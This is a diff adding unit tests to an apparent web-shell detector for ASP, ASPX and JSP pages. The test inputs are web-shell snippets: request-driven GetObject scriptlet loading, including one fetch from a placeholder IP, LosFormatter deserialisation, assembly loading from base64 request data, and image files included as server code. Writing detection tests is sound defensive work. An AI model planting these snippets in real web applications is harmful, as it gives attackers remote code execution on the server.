@@ -364,3 +364,33 @@ def test_fixed_tool_with_fixed_stdin_is_not_a_shell():
     benign('<%@ Page Language="C#" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "sort.exe";'
            ' p.StartInfo.RedirectStandardInput = true; p.Start(); p.StandardInput.WriteLine("b\\na");'
            ' var q = Request["q"]; %>', "x.aspx")
+
+
+def test_remote_scriptlet_through_getobject():
+    assert shell('<%\nSet o = GetObject("script:" & Request("u"))\n%>').rule == "asp.request-to-eval"
+    assert shell('<%\nSet o = GetObject("script:http://203.0.113.9/x.sct")\n%>').confidence >= 0.75
+
+
+def test_getobject_for_wmi_is_administration():
+    benign('<%\nSet w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nSet q = w.ExecQuery("select * from Win32_OperatingSystem")\n%>')
+
+
+def test_request_deserialised_by_los_formatter():
+    h = shell('<%@ Page Language="C#" %><% var f = new System.Web.UI.LosFormatter(); f.Deserialize(Request.Form["v"]); %>',
+              "x.aspx")
+    assert h.rule == "aspx.request-to-deserialisation"
+
+
+def test_current_domain_load_of_request_bytes():
+    h = shell('<%@ Page Language="C#" %><% var a = AppDomain.CurrentDomain.Load(Convert.FromBase64String(Request["a"])); %>',
+              "x.aspx")
+    assert h.rule == "aspx.request-to-classload"
+
+
+def test_include_of_an_image_as_server_code():
+    assert shell('<!--#include file="upload/logo.jpg"-->\n<p>hi</p>').rule == "asp.includes-image-as-code"
+    assert shell('<%@ include file="img/a.gif" %><html></html>', "x.jsp").rule == "jsp.includes-image-as-code"
+
+
+def test_include_of_a_page_and_an_image_tag():
+    benign('<!--#include file="inc/header.asp"-->\n<img src="upload/logo.jpg">')
